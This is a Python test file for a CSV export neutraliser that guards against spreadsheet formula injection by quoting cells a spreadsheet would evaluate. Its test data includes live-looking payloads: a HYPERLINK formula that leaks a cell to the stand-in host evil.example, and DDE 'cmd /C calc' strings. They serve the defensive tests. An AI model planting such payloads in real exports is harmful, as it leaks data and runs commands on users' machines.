"""The CSV writer's neutraliser, value by value, and a document read back as a spreadsheet reader would."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal
from typing import Any

from app.reports import csv_out

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"Open invoice")'

# (value, the cell written): what a spreadsheet would evaluate gets a quote in front and is otherwise intact.
TABLE: list[tuple[Any, str]] = [
    # text a spreadsheet runs as a formula
    (HYPERLINK, "'" + HYPERLINK),
    ("=1+1", "'=1+1"),
    ("+1+1", "'+1+1"),
    ("-1+1", "'-1+1"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("=", "'="),
    ("-", "'-"),
    ("-5", "'-5"),  # text that reads like a number is still text
    ("==", "'=="),
    ("'=1+1", "'=1+1"),  # already quoted: starts with a quote, left alone
    # text a spreadsheet shows as is
    ("", ""),
    ("plain", "plain"),
    ("a=b", "a=b"),
    ("1+1", "1+1"),
    (" =1+1", " =1+1"),
    ("\n=1+1", "\n=1+1"),
    ("Alice's workspace", "Alice's workspace"),
    ("https://shop.example", "https://shop.example"),
    ("api_terminated", "api_terminated"),
    # numbers stay numbers, negative ones too
    (0, "0"),
    (42, "42"),
    (-5, "-5"),
    (10**20, "100000000000000000000"),
    (-2.5, "-2.5"),
    (1e-05, "1e-05"),
    (Decimal("-1.50"), "-1.50"),
    # not a finite number: text, neutralised like any
    (float("-inf"), "'-inf"),
    (float("inf"), "inf"),
    (float("nan"), "nan"),
    (Decimal("-Infinity"), "'-Infinity"),
    # the product's other values
    (None, ""),
    (True, "true"),
    (False, "false"),
    (uuid.UUID("1f7a2b3c-4d5e-4f60-8a7b-9c0d1e2f3a4b"), "1f7a2b3c-4d5e-4f60-8a7b-9c0d1e2f3a4b"),
    (date(2026, 11, 1), "2026-11-01"),
    (datetime(2026, 11, 1, 12, 30, tzinfo=UTC), "2026-11-01T12:30:00Z"),
    (datetime(2026, 11, 1, 13, 30, tzinfo=timezone(timedelta(hours=1))), "2026-11-01T12:30:00Z"),
]


def test_the_neutraliser_quotes_what_a_spreadsheet_would_evaluate_and_nothing_else() -> None:
    wrong = [(value, csv_out.cell(value), want) for value, want in TABLE if csv_out.cell(value) != want]
    assert wrong == [], "value, written, wanted"


def test_a_document_read_back_has_no_live_formula_and_every_cell_intact() -> None:
    """Through the csv module, as a spreadsheet reads the file: every cell is one cell, quoted once, nothing else
    changed; the header is neutralised like any row."""
    awkward = [HYPERLINK, '=cmd|"/C calc"!A0,\r\n=1+1', "+,+", "-\n-", '@"', "\t\t", "\r\n", "plain, with a comma"]
    columns = ["label", "count", "-column"]
    rows = [{"label": text, "count": -i} for i, text in enumerate(awkward)]
    read = list(csv.reader(io.StringIO(csv_out.document(columns, rows), newline="")))
    assert read[0] == ["label", "count", "'-column"]
    assert read[1:] == [["'" + text if text[0] in "=+-@\t\r" else text, str(-i), ""] for i, text in enumerate(awkward)]
    assert not [c for row in read for c in row if c.startswith(csv_out.FORMULA_START) and not c.lstrip("-").isdigit()]
